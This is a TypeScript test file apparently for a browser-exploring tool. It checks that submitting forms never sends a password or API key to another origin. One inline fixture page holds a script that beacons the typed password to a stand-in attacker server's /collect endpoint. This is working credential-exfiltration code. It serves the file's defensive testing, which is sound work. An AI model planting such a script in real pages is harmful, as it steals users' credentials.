import { createServer, type Server } from "node:http"
import type { AddressInfo } from "node:net"
import { type AttackerOrigin, type FixtureSite, startAttackerOrigin } from "@sextant/fixture-site"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import {
  type AppMap,
  appMapToJson,
  appMapToMermaid,
  type ExploreEvent,
  explore,
  formatTestSuite,
  generateTests,
  secretVariables,
} from "../src/index.ts"
import { useBrowser } from "./support/Browser.ts"

/**
 * The explorer with `submitForms` on a site whose pages try to take the password to another origin, in
 * real headless Chromium. A second server plays the other origin and logs every request: whatever the
 * pages do, it never receives the password in any spelling, and neither the app map nor the events
 * hold it. A same-origin sign-in still gets the password and signs in.
 */

const browser = useBrowser()
const EMAIL = "alice@example.com"
const PASSWORD = "open sesame+42&x"
let site: FixtureSite
let attacker: AttackerOrigin
/** A sign-in page on its own origin that posts to itself, and beacons the password to the attacker on submit. */
let beaconing: { url: string; server: Server }

beforeAll(async () => {
  site = await browser.site()
  attacker = await startAttackerOrigin()
  const page = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Sign in</title></head><body>
<h1>Sign in</h1>
<form method="post" action="/signed-in" aria-label="Sign in" id="login-form">
<label for="email">Email</label><input type="email" name="email" id="email" autocomplete="username" required>
<label for="password">Password</label><input type="password" name="password" id="password" autocomplete="current-password" required>
<p><button type="submit" id="login-btn">Sign in</button></p>
</form>
<script>
// The form itself posts home (no form-action policy stops it); the beacon carries the password away.
document.querySelector("#login-form").addEventListener("submit", () => {
  navigator.sendBeacon(${JSON.stringify(`${attacker.url}/collect`)}, document.querySelector("#password").value)
})
</script></body></html>`
  const server = createServer((request, response) => {
    response.writeHead(200, { "content-type": "text/html; charset=utf-8", "cache-control": "no-store" })
    response.end(request.url === "/signed-in" ? "<h1>Signed in</h1>" : page)
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()))
  beaconing = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server }
})

afterAll(async () => {
  await attacker?.close()
  beaconing?.server.closeAllConnections()
  await new Promise<void>((resolve) => (beaconing ? beaconing.server.close(() => resolve()) : resolve()))
})

/** Every spelling a request, a file or an event could carry `value` in. */
const spellings = (value: string): Array<string> => {
  const uri = encodeURIComponent(value)
  const form = new URLSearchParams({ v: value }).toString().slice(2)
  const lower = (text: string) => text.replace(/%[0-9A-F]{2}/g, (sequence) => sequence.toLowerCase())
  return [
    ...new Set([
      value,
      uri,
      lower(uri),
      encodeURI(value),
      form,
      lower(form),
      JSON.stringify(value).slice(1, -1),
    ]),
  ]
}
const holds = (text: string, value = PASSWORD): boolean =>
  spellings(value).some((form) => text.includes(form))

const hostile = (path: string) => `${site.url}${path}?to=${encodeURIComponent(attacker.url)}`

const exploreOnce = async (startUrl: string, values: Readonly<Record<string, string>>) => {
  const events: Array<ExploreEvent> = []
  const since = attacker.requests.length
  const map = await browser.run(
    explore(startUrl, {
      maxDepth: 0,
      maxPages: 3,
      submitForms: true,
      values,
      onEvent: (event) => events.push(event),
    }),
  )
  // Let a late request (a re-sent body, a beacon) reach the attacker before reading its log.
  await new Promise((resolve) => setTimeout(resolve, 300))
  const requests = attacker.requests.slice(since)
  return { map, events, requests }
}

/** What the user keeps of an exploration: the map as JSON and Mermaid, the tests, the events. */
const artefacts = (map: AppMap, events: ReadonlyArray<ExploreEvent>): string =>
  [
    appMapToJson(map),
    appMapToMermaid(map),
    formatTestSuite(generateTests(map, { secrets: secretVariables(map) }), "yaml"),
    formatTestSuite(generateTests(map), "yaml"),
    JSON.stringify(events),
  ].join("\n")

describe("explore with submitForms and a password", () => {
  it("does not fill a form that posts to another origin, and says why", async () => {
    const { map, events, requests } = await exploreOnce(hostile("/hostile/offsite-form"), {
      Email: EMAIL,
      Password: PASSWORD,
    })
    expect(requests.filter((request) => holds(JSON.stringify(request)))).toEqual([])
    expect(requests.filter((request) => request.method === "POST")).toEqual([])
    const reasons = map.skipped.map((entry) => entry.reason)
    expect(
      reasons.some((reason) => reason.includes("<secret:Password>") && reason.includes(attacker.url)),
    ).toBe(true)
    expect(events.some((event) => event.type === "url-skip" && event.reason.includes(attacker.url))).toBe(
      true,
    )
    expect(events.filter((event) => event.type === "form-submit")).toEqual([])
    const stored = artefacts(map, events)
    expect(holds(stored)).toBe(false)
    expect(appMapToJson(map)).toContain('"suggestedValue": "<secret:Password>"')
  }, 60_000)

  it("takes a value for a field named like a credential (API key) as a secret: not sent to another origin, stored as its placeholder", async () => {
    const KEY = "sk-live-7f3a9c1e5b2d"
    const { map, events, requests } = await exploreOnce(hostile("/hostile/api-key"), { "API key": KEY })
    expect(requests.filter((request) => holds(JSON.stringify(request), KEY))).toEqual([])
    expect(holds(artefacts(map, events), KEY)).toBe(false)
    expect(appMapToJson(map)).toContain('"suggestedValue": "<secret:API_key>"')
    expect(
      map.skipped.some(
        (entry) => entry.reason.includes("<secret:API_key>") && entry.reason.includes(attacker.url),
      ),
    ).toBe(true)
  }, 60_000)

  it.each([
    ["a 307 from the site's own form action", "/hostile/redirect-post"],
    ["a submit handler that swaps the site's own form action", "/hostile/swap-action"],
  ])(
    "does not let %s carry the password to another origin",
    async (_, path) => {
      const { map, events, requests } = await exploreOnce(hostile(path), {
        Email: EMAIL,
        Password: PASSWORD,
      })
      expect(requests.filter((request) => holds(JSON.stringify(request)))).toEqual([])
      expect(requests.map((request) => `${request.method} ${request.url}`)).not.toContain("POST /collect")
      expect(map.pages.every((page) => !page.url.startsWith(attacker.url))).toBe(true)
      // Refused by the page's form-action policy or blocked by the request guard: either way it is said.
      expect(
        map.skipped.some(
          (entry) =>
            entry.reason.includes("<secret:Password>") &&
            (entry.reason.includes(`request to ${attacker.url}`) || entry.reason.includes("form-action")),
        ),
      ).toBe(true)
      expect(holds(artefacts(map, events))).toBe(false)
    },
    60_000,
  )

  it("blocks a beacon that carries the password to another origin when the form is submitted, and says so", async () => {
    const { map, events, requests } = await exploreOnce(`${beaconing.url}/`, {
      Email: EMAIL,
      Password: PASSWORD,
    })
    expect(requests.filter((request) => holds(JSON.stringify(request)))).toEqual([])
    expect(
      map.skipped.some((entry) =>
        entry.reason.includes(
          `request to ${attacker.url} carrying <secret:Password> in its body was blocked`,
        ),
      ),
    ).toBe(true)
    expect(events.filter((event) => event.type === "form-submit")).toEqual([])
    expect(holds(artefacts(map, events))).toBe(false)
  }, 60_000)

  it("does not type a password into a same-origin GET form (it would land in the URL), and says why", async () => {
    const { map, events } = await exploreOnce(`${site.url}/hostile/get-form`, {
      Email: EMAIL,
      Password: PASSWORD,
    })
    const outcome = map.pages[0]?.formOutcomes["Sign in"]?.find((candidate) => candidate.variant === "valid")
    expect(outcome?.url ?? "").not.toContain("password=")
    expect(map.skipped.some((entry) => entry.reason.includes("<secret:Password>"))).toBe(true)
    expect(holds(artefacts(map, events))).toBe(false)
  }, 60_000)

  it("signs in on the site's own login form with the password, and stores only its placeholder", async () => {
    const { map, events, requests } = await exploreOnce(`${site.url}/login`, {
      Email: EMAIL,
      Password: "wonderland",
    })
    expect(requests).toEqual([])
    const submitted = events.filter((event) => event.type === "form-submit")
    expect(submitted.map((event) => event.type === "form-submit" && new URL(event.url).pathname)).toContain(
      "/dashboard",
    )
    expect(map.pages.some((page) => new URL(page.url).pathname === "/dashboard")).toBe(true)
    expect(map.transitions.some((transition) => transition.kind === "form")).toBe(true)
    const stored = artefacts(map, events)
    expect(holds(stored, "wonderland")).toBe(false)
    expect(stored).toContain("SEXTANT_SECRET_PASSWORD")
    expect(secretVariables(map)).toEqual({ Password: "SEXTANT_SECRET_PASSWORD" })
  }, 60_000)
})
